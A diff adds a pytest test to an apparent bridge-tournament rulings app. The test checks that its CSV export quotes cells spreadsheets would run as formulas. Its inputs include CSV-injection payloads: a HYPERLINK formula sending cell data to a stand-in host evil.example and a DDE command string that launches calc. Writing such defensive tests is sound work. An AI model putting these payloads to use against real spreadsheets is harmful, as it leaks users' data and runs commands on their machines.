@@ -20,6 +20,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from app.auth import add_user
+from app.cases import Number, cell
 from app.main import create_app
 from app.storage import open_repository
 from app.storage.cases import SqlUserRepository
@@ -215,6 +216,31 @@ def test_the_ruling_log_is_a_csv_line_per_case_by_board(client: TestClient, even
             line["review_score_ns"], line["final_score_ns"], line["final_result"]) == \
         ("9", "50", "50", "vary", "-620", "-620", "4H W =")
     assert client.get(f"/v1/cases?event={event}&board=21").json()[0]["id"] == late
+
+
+def test_the_ruling_log_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(client: TestClient,
+                                                                                 event: int) -> None:
+    # OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading quote;
+    # the figures (scores, the case id) are written from the stored numbers and stay numbers.
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    body = case_body(event, director=link, table="-3", round="+30",
+                     pairs={"ns": {"number": "12", "names": "+cmd|' /C calc'!A0"}, "ew": {"number": "@3"}})
+    case_id = created(client, body)
+    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": -100, "result": "4H W -2", "law": "12C1(b)",
+                                                          "reason": "@SUM(1+1)"})
+    assert r.status_code == 200, r.text
+    assert client.get(f"/v1/cases/{case_id}").json()["director"] == link  # kept as given; only the CSV quotes it
+    line = next(csv.DictReader(io.StringIO(client.get(f"/v1/events/{event}/rulings.csv").text)))
+    assert (line["director"], line["reason"], line["ns_names"], line["ew_pair"], line["table"], line["round"]) == \
+        ("'" + link, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'@3", "'-3", "'+30")
+    assert (line["decision_score_ns"], line["final_score_ns"], line["suggested_score_ns"], line["case"]) == \
+        ("-100", "-100", "50", str(case_id))  # numbers, not neutralised
+    assert line["decision_result"] == "4H W -2" and line["imported"] == ""
+    page = client.get(f"/events/{event}/rulings.csv").text  # the page's download: the same writer
+    assert "'=HYPERLINK" in page and "'@SUM(1+1)" in page
+    # A tab or a carriage return at the start (the case's fields are trimmed, so straight to the writer):
+    assert [cell(x) for x in ("\tx", "\rx", "-", "4H W -1", "")] == ["'\tx", "'\rx", "'-", "4H W -1", ""]
+    assert [cell(Number(-100)), cell(Number(-150.5)), cell(7)] == ["-100", "-150.5", "7"]
 
 
 @pytest.fixture
